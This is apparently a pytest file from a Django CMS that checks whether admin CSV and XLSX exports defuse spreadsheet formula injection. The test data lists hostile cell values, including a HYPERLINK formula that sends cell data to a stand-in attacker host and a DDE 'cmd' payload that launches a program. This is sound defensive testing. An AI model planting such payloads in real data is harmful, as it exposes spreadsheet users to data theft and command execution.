"""No table that an editor downloads runs anything on the editor's computer."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from cms.core.spreadsheets import FORMULA_SIGNS, cell_defused
from cms.news.models import NewsPage
from tests.attacks.house import House
from tests.attacks.routes import all_routes

pytestmark = [pytest.mark.django_db, pytest.mark.any_database]

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1;"x")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _exports(house: House) -> list[str]:
    """Give every address of the admin whose view knows how to export."""
    found = []
    for route in all_routes():
        view_class = getattr(route.view, "view_class", None)
        if route.is_admin and hasattr(view_class, "as_spreadsheet"):
            found += route.paths(house.choices, most=1)
    return found


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def root(house: House, enter):
    """An administrator of a site where pages, clans and accounts are called by formulas."""
    for number, formula in enumerate(FORMULAS):
        copy = NewsPage(title=formula, slug=f"tin-{number}")
        house.news.get_parent().add_child(instance=copy)
    account = house.accounts["member"]
    type(account).objects.filter(pk=account.pk).update(
        display_name=FORMULAS[0], first_name=FORMULAS[3], last_name=FORMULAS[5]
    )
    person = house.own_person
    type(person).objects.filter(pk=person.pk).update(full_name=FORMULAS[1], given_name="\x0b=1")
    return enter("root")


def test_no_cell_of_a_csv_begins_like_a_formula(house: House, root):
    seen, tables = "", 0
    for path in _exports(house):
        response = root.get(path, {"export": "csv"})
        if not response.headers.get("Content-Type", "").startswith("text/csv"):
            continue
        tables += 1
        text = _body(response).decode("utf-8-sig")
        seen += text
        for row in csv.reader(StringIO(text, newline="")):
            bad = [cell for cell in row if cell.startswith(FORMULA_SIGNS)]
            assert bad == [], path
    assert tables >= 2
    assert "'=1+1" in seen


def test_no_cell_of_a_workbook_is_a_formula(house: House, root):
    tables = 0
    for path in _exports(house):
        response = root.get(path, {"export": "xlsx"})
        assert response.status_code < 500, path
        if "spreadsheetml" not in response.headers.get("Content-Type", ""):
            continue
        tables += 1
        for row in load_workbook(BytesIO(_body(response))).active.iter_rows():
            assert [cell.value for cell in row if cell.data_type == "f"] == [], path
    assert tables >= 2


def test_csv_is_read_as_vietnamese_by_excel(house: House, root):
    body = _body(root.get("/admin/reports/aging-pages/", {"export": "csv"}))
    assert body.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_kept_readable_behind_an_apostrophe(formula):
    assert cell_defused(formula) == f"'{formula}"


@pytest.mark.parametrize("value", ["Dương Văn An", "", "1=1", -5, 3.5, None])
def test_what_is_no_formula_stays_as_it_is(value):
    assert cell_defused(value) == value
